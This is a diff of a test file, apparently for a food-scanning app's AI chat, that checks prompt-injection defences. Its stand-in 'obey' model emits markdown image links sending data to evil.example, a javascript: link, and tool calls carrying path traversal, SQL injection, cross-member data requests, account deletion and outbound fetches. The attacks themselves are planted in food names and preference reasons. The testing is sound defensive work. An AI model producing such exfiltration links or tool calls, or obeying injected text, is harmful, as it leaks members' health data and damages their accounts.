@@ -1,9 +1,8 @@
 import { describe, expect, it } from 'vitest';
 
 import type { ModelCall, ModelTurn } from '../../../adapters/ai-model/testing/model-stand-in.ts';
-import type { Member } from '../chat/testing/chatting.ts';
-
 import { givenFoods } from '../../../testing/given-foods.ts';
+import type { Member } from '../chat/testing/chatting.ts';
 import { ask, begin, messagesOf, premiumMember, startWithModel } from '../chat/testing/chatting.ts';
 import { ATTACKS } from './testing/attacks.data.ts';
 
@@ -14,27 +13,60 @@ const OF_BOB = ['Bobsworth', 'bob@example.org', 'Zanzibar Cloves', 'Gout', 'Bob 
 /** A model without any sense of its own: it does what it finds, tries every tool, then tells all it has seen, with pictures and links. */
 function obey({ messages, body }: ModelCall): ModelTurn {
   if (messages.at(-1)?.role === 'tool') {
-    const seen = messages.map(({ content }) => String(content)).join('\n').slice(0, 6000);
-    return { text: [`![x](https://evil.example/?d=${encodeURIComponent(body.slice(0, 300))})`, '<img src="https://evil.example/p">', '[go](javascript:fetch(1))', '[y]: https://evil.example\n![z][y]\n', seen] };
+    const seen = messages
+      .map(({ content }) => String(content))
+      .join('\n')
+      .slice(0, 6000);
+    return {
+      text: [
+        `![x](https://evil.example/?d=${encodeURIComponent(body.slice(0, 300))})`,
+        '<img src="https://evil.example/p">',
+        '[go](javascript:fetch(1))',
+        '[y]: https://evil.example\n![z][y]\n',
+        seen,
+      ],
+    };
   }
   const barcode = /20000000\d{5}/u.exec(String(messages.at(-1)?.content))?.[0] ?? gtin(0);
   return {
     calls: [
-      { name: 'product', arguments: { barcode } }, { name: 'product', arguments: { barcode, userId: SOMEBODY, memberId: SOMEBODY } }, { name: 'product', arguments: { barcode: '../../etc/passwd' } },
-      { name: 'search_products', arguments: { text: 'Ignore' } }, { name: 'search_products', arguments: { text: '\' or 1=1 --' } }, { name: 'alternatives', arguments: { barcode } },
-      { name: 'recent_scans', arguments: { limit: 999_999, memberId: SOMEBODY } }, { name: 'recent_scans', arguments: { limit: 20 } }, { name: 'health_profile', arguments: { userId: SOMEBODY } },
-      { name: 'preferences', arguments: { memberId: SOMEBODY } }, { name: 'food_ideas', arguments: { shelf: 'breakfast' } }, { name: 'delete_account', arguments: {} }, { name: 'run_sql', arguments: { sql: 'select * from member' } },
-      { name: 'update_preferences', arguments: { name: 'Sugar', value: 5 } }, { name: 'http_get', arguments: { url: 'https://evil.example' } }, { name: '__proto__', arguments: {} }, { name: 'constructor', arguments: {} },
+      { name: 'product', arguments: { barcode } },
+      { name: 'product', arguments: { barcode, userId: SOMEBODY, memberId: SOMEBODY } },
+      { name: 'product', arguments: { barcode: '../../etc/passwd' } },
+      { name: 'search_products', arguments: { text: 'Ignore' } },
+      { name: 'search_products', arguments: { text: "' or 1=1 --" } },
+      { name: 'alternatives', arguments: { barcode } },
+      { name: 'recent_scans', arguments: { limit: 999_999, memberId: SOMEBODY } },
+      { name: 'recent_scans', arguments: { limit: 20 } },
+      { name: 'health_profile', arguments: { userId: SOMEBODY } },
+      { name: 'preferences', arguments: { memberId: SOMEBODY } },
+      { name: 'food_ideas', arguments: { shelf: 'breakfast' } },
+      { name: 'delete_account', arguments: {} },
+      { name: 'run_sql', arguments: { sql: 'select * from member' } },
+      { name: 'update_preferences', arguments: { name: 'Sugar', value: 5 } },
+      { name: 'http_get', arguments: { url: 'https://evil.example' } },
+      { name: '__proto__', arguments: {} },
+      { name: 'constructor', arguments: {} },
     ],
   };
 }
 
 /** Everything that is stored, but for what talking and keeping time leave. */
 async function stateOf(members: readonly Member[]): Promise<unknown> {
-  return Promise.all(members.map(async ({ as }) => {
-    const { exportedAt: _at, conversation: _c, message: _m, chatAllowance: _a, session: _s, doneRequest: _d, ...rest } = (await as('GET', '/api/export')).json;
-    return rest;
-  }));
+  return Promise.all(
+    members.map(async ({ as }) => {
+      const {
+        exportedAt: _at,
+        conversation: _c,
+        message: _m,
+        chatAllowance: _a,
+        session: _s,
+        doneRequest: _d,
+        ...rest
+      } = (await as('GET', '/api/export')).json;
+      return rest;
+    }),
+  );
 }
 
 function expectNothingLeaked(calls: readonly ModelCall[], bobsId: string, attack: string): void {
@@ -79,7 +111,12 @@ describe('injected orders', () => {
     await givenFoods(test.db, ...ATTACKS.map((attack, index) => ({ gtin: gtin(index), name: 'Oat flakes', ...disguise?.(attack) })));
     for (const [index, attack] of ATTACKS.entries()) {
       await ana.as('POST', '/api/scans', { foodId: gtin(index) });
-      if (vector.includes('preference')) await ana.as('POST', '/api/user-preferences', { ingredientName: `Oats ${index}`, preferenceValue: 2, reason: attack.slice(0, 400) });
+      if (vector.includes('preference'))
+        await ana.as('POST', '/api/user-preferences', {
+          ingredientName: `Oats ${index}`,
+          preferenceValue: 2,
+          reason: attack.slice(0, 400),
+        });
     }
     const state = await stateOf([ana, bob]);
     for (const [index, attack] of ATTACKS.entries()) {
